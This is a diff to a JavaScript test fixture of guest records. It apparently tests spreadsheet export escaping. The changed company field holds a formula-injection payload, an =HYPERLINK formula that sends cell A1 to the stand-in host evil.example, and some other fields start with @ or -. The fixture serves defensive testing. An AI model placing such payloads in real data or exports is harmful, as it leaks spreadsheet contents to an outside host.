@@ -19,7 +19,8 @@ export const GUESTS = {
   },
   hostOnly: {
     name: 'Łukasz Żółć',
-    company: 'Żółć & Syn; Sp. z o.o.',
+    // German Excel splits on ";" and would start a cell with the formula (issue 11)
+    company: 'Żółć & Syn;=HYPERLINK("http://evil.example/?x="&A1,"Sp. z o.o.")',
     role: '@Head of Sales',
     phone: '-49 30 98765',
     askMeAbout: '🎉 Pierogi, obviously',
